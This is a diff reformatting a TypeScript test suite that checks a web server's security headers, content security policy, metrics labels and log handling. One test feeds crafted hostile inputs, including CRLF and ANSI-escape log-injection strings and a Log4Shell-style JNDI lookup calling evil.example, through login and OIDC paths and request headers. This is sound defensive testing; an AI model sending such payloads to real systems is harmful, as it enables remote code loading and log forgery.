@@ -86,7 +86,11 @@ test('F27 no header makes somebody a client, a person or an operator', async () 
     'x-apollo-operation-name': 'x',
   }
   const ask = async (headers: Record<string, string>) => {
-    const answer = await fetch(`${direct.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query }) })
+    const answer = await fetch(`${direct.url}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', ...headers },
+      body: JSON.stringify({ query }),
+    })
     return answer.text()
   }
   const own = (text: string) => text.replaceAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, '…')
@@ -152,7 +156,12 @@ test('F32 F41 what is sent makes no line of the log, and no page says what it is
   const from = lines.length
   const evil = 'x%0d%0a%1b[31m{"level":60}${jndi:ldap://evil.example/a}'
   const headers = { 'user-agent': '${jndi:ldap://evil.example/a} [31m', referer: 'https://evil.example/jndi' }
-  const paths = [`/login/google/callback?error=${evil}&error_description=${evil}&state=${evil}`, `/oidc/auth?client_id=${evil}&state=${evil}`, `/login?uid=${evil}`, `/${evil}`]
+  const paths = [
+    `/login/google/callback?error=${evil}&error_description=${evil}&state=${evil}`,
+    `/oidc/auth?client_id=${evil}&state=${evil}`,
+    `/login?uid=${evil}`,
+    `/${evil}`,
+  ]
   for (const path of paths) {
     const answer = await fetch(direct.url + path, { headers: { ...headers, accept: 'text/html' } })
     const names = [...answer.headers.keys()]
@@ -160,7 +169,8 @@ test('F32 F41 what is sent makes no line of the log, and no page says what it is
     expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
     expect(['no-referrer', 'same-origin']).toContain(answer.headers.get('referrer-policy'))
     expect(answer.headers.get('cross-origin-opener-policy')).toBe('same-origin')
-    if (answer.headers.get('content-type')?.includes('html')) expect(answer.headers.get('content-security-policy')).toMatch(/^(?!.*unsafe-).*default-src 'none'/)
+    if (answer.headers.get('content-type')?.includes('html'))
+      expect(answer.headers.get('content-security-policy')).toMatch(/^(?!.*unsafe-).*default-src 'none'/)
   }
   const written = lines.slice(from)
   expect(written.length).toBeGreaterThan(paths.length)
@@ -176,5 +186,9 @@ test('F34 health and metrics name no version, no host and nobody, and are a word
   const labels = new Set([...text.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))
   for (let n = 0; n < 20; n++) await fetch(`${direct.url}/nowhere-${n}?${n}`)
   const after = await (await fetch(`${direct.url}/metrics`)).text()
-  expect([...new Set([...after.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))].filter((route) => !labels.has(route) && route !== 'none' && route !== '/metrics')).toEqual([])
+  expect(
+    [...new Set([...after.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))].filter(
+      (route) => !labels.has(route) && route !== 'none' && route !== '/metrics',
+    ),
+  ).toEqual([])
 })
